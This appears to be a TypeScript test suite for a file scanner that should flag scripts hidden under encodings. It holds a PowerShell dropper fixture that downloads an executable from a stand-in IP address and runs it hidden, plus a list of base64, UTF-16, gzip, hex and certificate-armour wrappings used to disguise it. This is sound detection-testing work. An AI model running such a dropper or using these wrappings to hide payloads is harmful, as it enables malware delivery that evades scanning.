// A script that stands alone in a text, encoded: it is found whatever it is written in, and what is no script says nothing.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { deflateRawSync, gzipSync } from 'node:zlib'
import { analyzeFile } from '../../src/index.ts'

const NOW = new Date('2026-03-01T00:00:00Z')
const analyze = (content: Buffer | string, fileName: string | null = 'data.txt') =>
  analyzeFile(typeof content === 'string' ? Buffer.from(content) : content, { fileName, now: NOW })

const DROPPER = `$c = New-Object Net.WebClient\r\n$c.DownloadFile('http://198.51.100.7/update.exe', "$env:TEMP\\update.exe")\r\nStart-Process "$env:TEMP\\update.exe" -WindowStyle Hidden\r\n`
const HONEST = `# Rotates the logs of the web server\nset -eu\nfor file in /var/log/nginx/*.log; do\n  gzip -9 "$file"\ndone\n`

const wrapped = (text: string): string => text.replace(/.{64}/g, '$&\r\n')
const base64 = Buffer.from(DROPPER).toString('base64')
const FORMS: readonly (readonly [name: string, text: string | Buffer])[] = [
  ['base64 in one line', base64],
  ['base64 in lines', `${wrapped(base64)}\r\n`],
  ['base64 of UTF-16, as -EncodedCommand takes it', Buffer.from(DROPPER, 'utf16le').toString('base64')],
  ['base64 as UTF-16 itself', Buffer.from(`\ufeff${base64}`, 'utf16le')],
  ['base64 twice', Buffer.from(base64).toString('base64')],
  ['base64 turned round', [...base64].reverse().join('')],
  ['base64 of gzip', gzipSync(DROPPER).toString('base64')],
  ['base64 of deflated bytes', deflateRawSync(DROPPER).toString('base64')],
  ['hexadecimal', Buffer.from(DROPPER).toString('hex')],
  ['bytes with commas', [...Buffer.from(DROPPER)].map((byte) => `0x${byte.toString(16).padStart(2, '0')}`).join(',')],
  ['armour of a certificate', `-----BEGIN CERTIFICATE-----\r\n${wrapped(base64)}\r\n-----END CERTIFICATE-----\r\n`],
]

describe('a text that is nothing but an encoded script', () => {
  for (const [name, text] of FORMS)
    test(name, async () => {
      const { verdict } = await analyze(text)
      assert.equal(verdict.label, (await analyze(DROPPER, 'update.ps1')).verdict.label, verdict.summary)
      assert.notEqual(verdict.label, 'clean')
    })

  test('an honest script is clean', async () => {
    const { verdict } = await analyze(Buffer.from(HONEST).toString('base64'))
    assert.equal(verdict.label, 'clean', verdict.summary)
  })

  test('one that is too large to be decoded whole is not clean', async () => {
    const large = Buffer.alloc(7 * 1024 * 1024, HONEST).toString('base64')
    assert.equal((await analyze(large)).verdict.label, 'unknown')
  })

  for (const [name, text] of [
    ['words', 'the quick brown fox jumps over the lazy dog and runs away'],
    ['a hash', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n'],
    ['a key', 'dGhpcyBpcyBubyBzY3JpcHQsIG9ubHkgYSBub3RlIHRvIG15c2VsZg==\n'],
    ['numbers', Array.from({ length: 400 }, (_, at) => String(at * 37)).join(',')],
  ] as const)
    test(`${name}: clean`, async () => assert.equal((await analyze(text)).verdict.label, 'clean'))
})
